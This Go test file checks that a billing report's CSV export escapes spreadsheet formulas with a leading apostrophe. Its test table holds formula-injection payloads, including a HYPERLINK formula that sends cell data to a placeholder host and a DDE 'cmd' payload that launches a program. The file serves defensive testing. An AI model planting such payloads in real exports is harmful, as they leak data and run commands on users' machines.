package report

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/reckon-billing/reckon/schemas"
)

func csvOf(t interface{ Fatal(args ...any) }, o Options, rows ...schemas.ReportRow) string {
	var b bytes.Buffer
	w := NewWriter(&b, CSV, o)
	for i := range rows {
		if err := w.Write(&rows[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// A name that a spreadsheet would run is shown as it is, behind an apostrophe; names that
// it would not, and numbers, also those below zero, are as ever.
func TestCSVForSpreadsheetsRunsNoText(t *testing.T) {
	row := october(t)[0]
	row.Amounts = amounts("-55000", "-5500", "0", "-60500")
	for name, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"click")`: `'=HYPERLINK("http://x/?"&A1,"click")`,
		"+1+1":                                "'+1+1",
		"-2+3":                                "'-2+3",
		"@SUM(A1)":                            "'@SUM(A1)",
		"=cmd|' /C calc'!A0":                  "'=cmd|' /C calc'!A0",
		" =1+1":                               " '=1+1",
		"\u00a0=1+1":                          "\u00a0'=1+1",
		"＝1+1":                                "'＝1+1",
		"a;=1+1":                              "a;'=1+1",
		"a; -1":                               "a; '-1",
		"a;b":                                 "a;b",
		"1=1":                                 "1=1",
		"a - b":                               "a - b",
		`a "quoted", name`:                    `a "quoted", name`,
		" leading":                            " leading",
		`\.`:                                  `\.`,
		"'=1":                                 "'=1",
		"":                                    "",
		"máy chủ":                             "máy chủ",
	} {
		row.ResourceName, row.CouponCode = name, name
		text := csvOf(t, Options{Zone: zone(t, "UTC"), Currency: vnd(), ForSpreadsheets: true}, row)
		rest, marked := strings.CutPrefix(text, "\xef\xbb\xbf")
		if !marked {
			t.Fatalf("no mark at the begin of %q", text)
		}
		read, err := csv.NewReader(strings.NewReader(rest)).ReadAll()
		if err != nil || len(read) != 2 {
			t.Fatalf("%v: %q", err, rest)
		}
		for i, column := range read[0] {
			switch got := read[1][i]; column {
			case "resource_name", "coupon_code":
				if got != want {
					t.Errorf("%q is written as %q, want %q", name, got, want)
				}
			case "before_tax":
				if got != "-55000" {
					t.Errorf("an amount is written as %q", got)
				}
			}
		}
	}
}

// Whatever the text: no cell of it begins with a sign, and without the apostrophes it is
// what it was. Without the option not a byte of CSV changes.
func TestCSVForSpreadsheetsIsTheSameTextBehindApostrophes(t *testing.T) {
	base := october(t)[0]
	o := Options{Zone: zone(t, "UTC"), Currency: vnd()}
	rapid.Check(t, func(t *rapid.T) {
		row := drawRow(t, base)
		plain := csv.NewReader(strings.NewReader(csvOf(t, o, row)))
		o := o
		o.ForSpreadsheets = true
		marked := csv.NewReader(strings.NewReader(strings.TrimPrefix(csvOf(t, o, row), byteOrderMark)))
		for {
			as, errAs := plain.Read()
			is, errIs := marked.Read()
			if errAs == io.EOF && errIs == io.EOF {
				return
			}
			if errAs != nil || errIs != nil || len(as) != len(is) {
				t.Fatalf("%v, %v", errAs, errIs)
			}
			for i, text := range is {
				if !isText()[i] {
					if text != as[i] {
						t.Fatalf("%q is written as %q", as[i], text)
					}
					continue
				}
				for _, cell := range strings.FieldsFunc(text, func(r rune) bool { return r == ';' }) {
					if first := strings.TrimSpace(cell); first != "" && strings.ContainsAny(first[:1], "=+-@") {
						t.Fatalf("%q has a cell that begins with a sign", text)
					}
				}
				if strings.ReplaceAll(text, "'", "") != strings.ReplaceAll(as[i], "'", "") {
					t.Fatalf("%q is written as %q", as[i], text)
				}
			}
		}
	})
}
